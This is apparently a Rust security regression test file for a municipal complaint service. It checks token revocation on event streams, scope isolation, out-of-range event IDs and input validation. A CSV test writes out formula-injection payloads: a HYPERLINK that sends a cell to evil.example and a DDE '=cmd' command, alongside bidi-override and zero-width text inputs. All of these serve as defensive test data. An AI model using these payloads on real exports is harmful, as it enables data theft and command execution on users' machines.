//! What an attacker tried (issue 12), each as a scenario against a real server: revoked tokens
//! that kept streaming, scope leaks through the event log and the steps, and text that lies.

// Test code: a failed expectation is how a test fails.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::time::Duration;

use eventsource_stream::Eventsource;
use futures_util::StreamExt;
use reqwest::Method;
use serde_json::{json, Value};

use shaozi_tests::TestServer;

/// Reads a token's event stream in the background: every event it delivers, until the server
/// ends it (or `limit` passes).
fn follow(s: &TestServer, token: &str, limit: Duration) -> tokio::task::JoinHandle<Vec<Value>> {
    let rb = s
        .req_as(token, Method::GET, "/api/v1/events")
        .header("Last-Event-ID", "0");
    tokio::spawn(async move {
        let mut got = Vec::new();
        let Ok(res) = rb.send().await else {
            return got;
        };
        assert_eq!(res.status().as_u16(), 200);
        let mut events = res.bytes_stream().eventsource();
        let deadline = tokio::time::Instant::now() + limit;
        while let Ok(Some(Ok(ev))) = tokio::time::timeout_at(deadline, events.next()).await {
            if let Ok(v) = serde_json::from_str::<Value>(&ev.data) {
                got.push(v);
            }
        }
        got
    })
}

fn has_street(events: &[Value], name: &str) -> bool {
    events
        .iter()
        .any(|e| e["type"] == "street.created" && e["record"]["name"] == name)
}

#[tokio::test]
async fn revoking_tokens_ends_their_streams_however_many_notices_are_in_flight() {
    let s = TestServer::start().await;
    // A token revoked before, to be revoked again and again while the real revocations run.
    s.token("viewer", json!({}), "old").await;
    let first = TestServer::send(s.req(Method::DELETE, "/api/v1/tokens/old")).await;
    assert_eq!(first.status, 200, "{}", first.body);

    let mut streams = Vec::new();
    for i in 0..12 {
        let name = format!("viewer{i}");
        let token = s.token("viewer", json!({}), &name).await;
        streams.push((
            name,
            token.clone(),
            follow(&s, &token, Duration::from_secs(20)),
        ));
    }
    // The streams are open once each has seen the log so far (its own token's creation).
    s.ok("/api/v1/streets", json!({"name": "前街道"}), 201)
        .await;
    tokio::time::sleep(Duration::from_millis(300)).await;

    // The real revocations go first, so that hundreds of notices follow each of them.
    let mut calls = Vec::new();
    for (name, _, _) in &streams {
        let rb = s.req(Method::DELETE, &format!("/api/v1/tokens/{name}"));
        calls.push(tokio::spawn(async move {
            (usize::MAX, TestServer::send(rb).await)
        }));
    }
    for i in 0..500 {
        let rb = s.req(Method::DELETE, "/api/v1/tokens/old");
        calls.push(tokio::spawn(async move { (i, TestServer::send(rb).await) }));
    }
    let mut repeats = 0;
    for c in calls {
        let (i, a) = c.await.expect("call");
        if i == usize::MAX {
            assert_eq!(a.status, 200, "a first revocation: {}", a.body);
        } else {
            // Revoking a revoked token changes nothing, and says so.
            assert_eq!(a.status, 409, "a repeat revocation: {}", a.body);
            assert!(a.str("detail").contains("nothing changed"), "{}", a.body);
            repeats += 1;
        }
    }
    assert_eq!(repeats, 500);

    s.ok("/api/v1/streets", json!({"name": "后街道"}), 201)
        .await;
    for (name, token, reader) in streams {
        let got = tokio::time::timeout(Duration::from_secs(5), reader)
            .await
            .unwrap_or_else(|_| panic!("{name}'s stream still open after its revocation"))
            .expect("reader");
        assert!(has_street(&got, "前街道"), "{name} was live before");
        assert!(
            !has_street(&got, "后街道"),
            "{name} received an event after its revocation"
        );
        let me = TestServer::send(s.req_as(&token, Method::GET, "/api/v1/me")).await;
        assert_eq!(me.status, 401);
    }
    // The log has one revocation per token, never a repeat.
    let audit = s.get("/api/v1/audit?limit=1000").await;
    let revoked = audit.body["items"]
        .as_array()
        .expect("items")
        .iter()
        .filter(|e| e["type"] == "token.revoked")
        .count();
    assert_eq!(revoked, 13);
}

#[tokio::test]
async fn an_expired_token_stream_ends_and_receives_nothing_more() {
    let s = TestServer::start().await;
    let token = s
        .post(
            "/api/v1/tokens",
            json!({"role": "viewer", "name": "一天", "expires_days": 1}),
        )
        .await
        .str("token");
    let reader = follow(&s, &token, Duration::from_secs(20));
    s.ok("/api/v1/streets", json!({"name": "当天街道"}), 201)
        .await;
    tokio::time::sleep(Duration::from_millis(300)).await;
    s.clock.advance(chrono::Duration::days(2));
    s.ok("/api/v1/streets", json!({"name": "过期后街道"}), 201)
        .await;
    let got = tokio::time::timeout(Duration::from_secs(5), reader)
        .await
        .expect("the expired token's stream ended")
        .expect("reader");
    assert!(has_street(&got, "当天街道"));
    assert!(!has_street(&got, "过期后街道"));
}

/// Reads a token's stream from the start until the street `marker` is created (events come in
/// order, so everything before it that the token may see has arrived by then).
async fn seen_until(s: &TestServer, token: &str, marker: &str) -> Vec<Value> {
    let res = s
        .req_as(token, Method::GET, "/api/v1/events")
        .header("Last-Event-ID", "0")
        .send()
        .await
        .expect("stream");
    assert_eq!(res.status().as_u16(), 200);
    let mut events = res.bytes_stream().eventsource();
    let mut got = Vec::new();
    let deadline = tokio::time::Instant::now() + Duration::from_secs(10);
    while let Ok(Some(Ok(ev))) = tokio::time::timeout_at(deadline, events.next()).await {
        let v: Value = serde_json::from_str(&ev.data).expect("JSON event");
        let done = v["type"] == "street.created" && v["record"]["name"] == marker;
        got.push(v);
        if done {
            return got;
        }
    }
    panic!("the marker {marker} never arrived");
}

/// The events page (JSON) a token reads from the start.
async fn page(s: &TestServer, token: &str) -> Vec<Value> {
    let a = TestServer::send(
        s.req_as(token, Method::GET, "/api/v1/events?after=0&limit=1000")
            .header("Accept", "application/json"),
    )
    .await;
    assert_eq!(a.status, 200, "{}", a.body);
    a.body["items"].as_array().cloned().unwrap_or_default()
}

fn mentions(events: &[Value], phone: &str) -> bool {
    events.iter().any(|e| e.to_string().contains(phone))
}

#[tokio::test]
async fn an_activity_is_seen_only_by_the_units_it_names_live_paged_and_in_an_old_store() {
    let mut s = TestServer::start().await;
    let city = s.small_city().await;
    let (c1, c2, c3) = (
        &city.communities[0],
        &city.communities[1],
        &city.communities[2],
    );
    let (d1, d2) = (&city.departments[0], &city.departments[1]);
    let mut tokens = Vec::new();
    for (name, role, scope, sees) in [
        ("c1", "community", json!({"community_id": c1}), false),
        ("c2", "community", json!({"community_id": c2}), true),
        ("c3", "community", json!({"community_id": c3}), false),
        ("d1", "department", json!({"department_id": d1}), true),
        ("d2", "department", json!({"department_id": d2}), false),
        (
            "s1",
            "dispatcher",
            json!({"street_id": city.streets[0]}),
            true,
        ),
        (
            "s2",
            "dispatcher",
            json!({"street_id": city.streets[1]}),
            false,
        ),
        ("city", "viewer", json!({}), true),
    ] {
        tokens.push((name, s.token(role, scope, name).await, sees));
    }
    // Community C2's activity with department D1, with a phone number in its note.
    let phone = "13800001234";
    s.ok(
        "/api/v1/activities",
        json!({"department_id": d1, "community_id": c2, "kind": "cleanup", "date": "2026-11-26",
               "participants": 6, "note": format!("联系人王姐 {phone}")}),
        201,
    )
    .await;
    s.ok("/api/v1/streets", json!({"name": "标记街道"}), 201)
        .await;
    for (name, token, sees) in &tokens {
        let live = seen_until(&s, token, "标记街道").await;
        assert_eq!(mentions(&live, phone), *sees, "{name}'s stream");
        assert_eq!(
            mentions(&page(&s, token).await, phone),
            *sees,
            "{name}'s page"
        );
    }

    // A store written before activities had an audience kept their events public. Only sled
    // stores are that old: the PostgreSQL schema began with audiences.
    if shaozi_tests::pgdb::suite_on_postgres() {
        return;
    }
    s.stop().await;
    {
        let store = shaozi_tests::open_stopped_store(s.data());
        let mut rewritten = 0;
        for r in store.events.iter() {
            let (k, v) = r.expect("event");
            let mut e: Value = serde_json::from_slice(&v).expect("JSON");
            if e["type"] == "activity.recorded" {
                e["scope"] = json!({"audience": "public"});
                store
                    .events
                    .insert(k, serde_json::to_vec(&e).expect("JSON"))
                    .expect("insert");
                rewritten += 1;
            }
        }
        assert_eq!(rewritten, 1);
        store.db.flush().expect("flush");
    }
    tokio::time::sleep(Duration::from_millis(300)).await;
    s.start_again().await;
    s.ok("/api/v1/streets", json!({"name": "重启后街道"}), 201)
        .await;
    for (name, token, sees) in &tokens {
        let replayed = seen_until(&s, token, "重启后街道").await;
        assert_eq!(mentions(&replayed, phone), *sees, "{name}'s replay");
        assert_eq!(
            mentions(&page(&s, token).await, phone),
            *sees,
            "{name}'s page"
        );
    }
}

#[tokio::test]
async fn another_streets_whistle_is_not_found_for_every_step_and_never_written() {
    let s = TestServer::start().await;
    let city = s.small_city().await;
    let (c1, c3) = (&city.communities[0], &city.communities[2]);
    let s1 = s
        .token("dispatcher", json!({"street_id": city.streets[0]}), "s1")
        .await;
    let ours = s.whistle(c1, "roads", "normal", "井盖缺失").await;
    let theirs = s.whistle(c3, "roads", "normal", "路灯不亮").await;
    // Theirs is closed, as in the report; a closed whistle still must not be touched.
    let d = &city.departments[0];
    s.dispatch(&theirs, d).await;
    s.ok(
        &format!("/api/v1/whistles/{theirs}/acknowledge"),
        json!({"staff": ["张伟", "李娜"]}),
        200,
    )
    .await;
    s.ok(
        &format!("/api/v1/whistles/{theirs}/resolve"),
        json!({"reply": "已修复"}),
        200,
    )
    .await;
    s.ok(
        &format!("/api/v1/whistles/{theirs}/close"),
        json!({"satisfaction": 5}),
        200,
    )
    .await;
    let before = s.get(&format!("/api/v1/whistles/{theirs}")).await;

    // Rejecting ours as a duplicate of theirs, or of one that does not exist: the same answer.
    let answers: Vec<_> = [theirs.as_str(), "W9999"]
        .into_iter()
        .map(|orig| {
            s.req_as(
                &s1,
                Method::POST,
                &format!("/api/v1/whistles/{ours}/reject"),
            )
            .json(&json!({"reason": "重复", "duplicate_of": orig}))
        })
        .collect();
    let mut seen = Vec::new();
    for rb in answers {
        let a = TestServer::send(rb).await;
        assert_eq!(a.status, 422, "{}", a.body);
        assert_eq!(a.str("field"), "duplicate_of");
        seen.push(
            a.str("detail")
                .replace(&theirs, "W?")
                .replace("W9999", "W?"),
        );
    }
    assert_eq!(seen[0], seen[1], "the answers tell nothing apart");

    // Reading or stepping theirs: 404, as for a whistle that does not exist.
    for (method, path, body) in [
        (Method::GET, format!("/api/v1/whistles/{theirs}"), None),
        (
            Method::POST,
            format!("/api/v1/whistles/{theirs}/escalate"),
            Some(json!({"reason": "催"})),
        ),
        (
            Method::POST,
            format!("/api/v1/whistles/{theirs}/dispatch"),
            Some(json!({"department_id": d})),
        ),
    ] {
        let mut rb = s.req_as(&s1, method.clone(), &path);
        if let Some(b) = &body {
            rb = rb.json(b);
        }
        let a = TestServer::send(rb).await;
        assert_eq!(a.status, 404, "{method} {path}: {}", a.body);
        let missing = path.replace(&theirs, "W9999");
        let mut rb = s.req_as(&s1, method.clone(), &missing);
        if let Some(b) = &body {
            rb = rb.json(b);
        }
        let b = TestServer::send(rb).await;
        assert_eq!(
            (b.status, b.str("detail").replace("W9999", "W?")),
            (404, a.str("detail").replace(&theirs, "W?")),
            "{path} answers like a missing whistle"
        );
    }
    let after = s.get(&format!("/api/v1/whistles/{theirs}")).await;
    assert_eq!(after.body, before.body, "theirs was not written");
    assert_eq!(after.headers["etag"], before.headers["etag"]);

    // Within the street, a duplicate is linked as before.
    let orig = s.whistle(c1, "roads", "normal", "井盖缺失（首报）").await;
    let a = TestServer::send(
        s.req_as(
            &s1,
            Method::POST,
            &format!("/api/v1/whistles/{ours}/reject"),
        )
        .json(&json!({"reason": "重复", "duplicate_of": orig})),
    )
    .await;
    assert_eq!(a.status, 200, "{}", a.body);
    let o = s.get(&format!("/api/v1/whistles/{orig}")).await;
    assert_eq!(o.body["duplicates"], json!([ours]));
}

#[tokio::test]
async fn another_communitys_wish_is_not_found() {
    let s = TestServer::start().await;
    let city = s.small_city().await;
    let c1 = s
        .token(
            "community",
            json!({"community_id": city.communities[0]}),
            "c1",
        )
        .await;
    let wish = s
        .ok(
            "/api/v1/wishes",
            json!({"community_id": city.communities[1], "title": "轮椅", "value_fen": 50000}),
            201,
        )
        .await["id"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    for (method, path, body) in [
        (Method::GET, format!("/api/v1/wishes/{wish}"), None),
        (
            Method::POST,
            format!("/api/v1/wishes/{wish}/cancel"),
            Some(json!({"reason": "搬走了"})),
        ),
    ] {
        let mut rb = s.req_as(&c1, method.clone(), &path);
        if let Some(b) = &body {
            rb = rb.json(b);
        }
        let a = TestServer::send(rb).await;
        assert_eq!(a.status, 404, "{method} {path}: {}", a.body);
        assert_eq!(a.str("detail"), format!("there is no wish {wish}"));
    }
}

#[tokio::test]
async fn open311_updates_describe_a_reopening_without_quoting_the_community() {
    let s = TestServer::start().await;
    let city = s.small_city().await;
    let w = s
        .whistle(&city.communities[0], "roads", "normal", "井盖缺失")
        .await;
    let d = &city.departments[0];
    for (step, body) in [
        ("dispatch", json!({"department_id": d})),
        ("acknowledge", json!({"staff": ["张伟", "李娜"]})),
        ("resolve", json!({"reply": "井盖已更换"})),
        (
            "reopen",
            json!({"reason": "内部：联系楼长 13900005678，盖子还是松的"}),
        ),
    ] {
        s.ok(&format!("/api/v1/whistles/{w}/{step}"), body, 200)
            .await;
    }
    let feed = s
        .client
        .get(format!("{}/open311/v2/servicerequestupdates.json", s.base))
        .send()
        .await
        .expect("feed")
        .text()
        .await
        .expect("body");
    assert!(feed.contains("井盖已更换"), "the reply is public: {feed}");
    assert!(feed.contains("已重新办理"), "{feed}");
    assert!(
        !feed.contains("13900005678"),
        "the reason stays internal: {feed}"
    );
}

#[tokio::test]
async fn an_event_id_past_the_head_is_refused_never_silence() {
    let s = TestServer::start().await;
    s.ok("/api/v1/streets", json!({"name": "桃花仑街道"}), 201)
        .await;
    let head = s.get("/api/v1/stats").await.body["last_seq"]
        .as_u64()
        .expect("last_seq");
    for (header, query, field) in [
        (Some("18446744073709551615"), "", "Last-Event-ID"),
        (Some(&*(head + 1).to_string()), "", "Last-Event-ID"),
        (None, "?after=18446744073709551615", "after"),
    ] {
        for accept in ["text/event-stream", "application/json"] {
            let mut rb = s
                .req(Method::GET, &format!("/api/v1/events{query}"))
                .header("Accept", accept);
            if let Some(h) = header {
                rb = rb.header("Last-Event-ID", h);
            }
            let a = tokio::time::timeout(Duration::from_secs(5), TestServer::send(rb))
                .await
                .expect("an answer, not silence");
            assert_eq!(
                (a.status, a.str("field")),
                (400, field.to_string()),
                "{}",
                a.body
            );
            assert!(
                a.str("detail").contains("past the last event"),
                "{}",
                a.body
            );
        }
    }
    // The head itself is fine: the stream waits for what comes next.
    let live = s.events(Some(head), 1, Duration::from_secs(2));
    let (got, _) = tokio::join!(live, async {
        tokio::time::sleep(Duration::from_millis(300)).await;
        s.ok("/api/v1/streets", json!({"name": "赫山街道"}), 201)
            .await
    });
    assert_eq!(got.len(), 1);
    assert_eq!(got[0]["seq"], head + 1);
}

/// Parses CSV the way a spreadsheet reads it (quoted cells, doubled quotes), independently of
/// the server's writer.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') if cell.is_empty() => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    if !cell.is_empty() || !row.is_empty() {
        row.push(cell);
        rows.push(row);
    }
    rows
}

#[tokio::test]
async fn csv_exports_never_carry_a_live_formula() {
    let s = TestServer::start().await;
    let city = s.small_city().await;
    let evil_dept = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
    let evil_comm = r#"=cmd|"/c calc"!A1"#;
    s.ok(
        "/api/v1/departments",
        json!({"name": evil_dept, "categories": ["roads"]}),
        201,
    )
    .await;
    s.ok(
        "/api/v1/communities",
        json!({"name": evil_comm, "street_id": city.streets[0]}),
        201,
    )
    .await;
    for extra in ["-2+3", "+SUM(A1)", "@A1"] {
        s.ok(
            "/api/v1/departments",
            json!({"name": extra, "categories": ["roads"]}),
            201,
        )
        .await;
    }
    for (group, evil) in [("department", evil_dept), ("community", evil_comm)] {
        let res = s
            .req(
                Method::GET,
                &format!("/api/v1/assessment?group={group}&format=csv"),
            )
            .send()
            .await
            .expect("csv");
        assert_eq!(res.status().as_u16(), 200);
        let rows = parse_csv(&res.text().await.expect("text"));
        assert!(rows.len() > 2);
        for cell in rows.iter().flatten() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{group}: a live formula in {cell:?}"
            );
        }
        assert!(
            rows.iter().any(|r| r[2] == format!("'{evil}")),
            "{group}: the name is there, shown as written: {rows:?}"
        );
    }
}

#[tokio::test]
async fn text_that_lies_is_refused_naming_the_field() {
    let s = TestServer::start().await;
    let city = s.small_city().await;
    let c = &city.communities[0];
    let filing = |title: &str, description: &str| {
        json!({"community_id": c, "category": "roads", "urgency": "normal",
               "title": title, "description": description})
    };
    for (path, body, field) in [
        ("/api/v1/whistles", filing("井盖\n缺失", "d"), "title"),
        ("/api/v1/whistles", filing("井盖\u{202E}失缺", "d"), "title"),
        (
            "/api/v1/whistles",
            filing("\u{200B}\u{200C}\u{FEFF}", "d"),
            "title",
        ),
        (
            "/api/v1/whistles",
            filing("井盖", "\u{2066}看这里\u{2069}"),
            "description",
        ),
        (
            "/api/v1/whistles",
            filing("井盖", &"长".repeat(2001)),
            "description",
        ),
        ("/api/v1/streets", json!({"name": "桃花\t仑"}), "name"),
        ("/api/v1/streets", json!({"name": "\u{200B}"}), "name"),
    ] {
        let a = s.post(path, body.clone()).await;
        assert_eq!(
            (a.status, a.str("field")),
            (422, field.to_string()),
            "{body}: {}",
            a.body
        );
    }
    // A multi-line text keeps its lines; a Windows line break is one line break.
    let ok = s
        .ok(
            "/api/v1/whistles",
            filing("井盖缺失", "朝阳路口\r\n第二行"),
            201,
        )
        .await;
    assert_eq!(ok["description"], "朝阳路口\n第二行");

    let w = s.whistle(c, "roads", "normal", "路灯不亮").await;
    s.dispatch(&w, &city.departments[0]).await;
    // Two entries that show the same name are one person; one that shows nothing is no one.
    for staff in [
        json!(["张三", "张三\u{200b}"]),
        json!(["ＬＩ　ＮＡ", "li na"]),
        json!(["张三", "\u{200b}\u{2060}"]),
        json!(["张三", "王\n五"]),
    ] {
        let a = s
            .post(
                &format!("/api/v1/whistles/{w}/acknowledge"),
                json!({"staff": staff}),
            )
            .await;
        assert_eq!(
            (a.status, a.str("field")),
            (422, "staff".into()),
            "{staff}: {}",
            a.body
        );
    }
    let done = s
        .ok(
            &format!("/api/v1/whistles/{w}/acknowledge"),
            json!({"staff": ["张三\u{200b}", "王五", "张三"]}),
            200,
        )
        .await;
    assert_eq!(
        done["staff"],
        json!(["张三", "王五"]),
        "kept as shown, once each"
    );
}
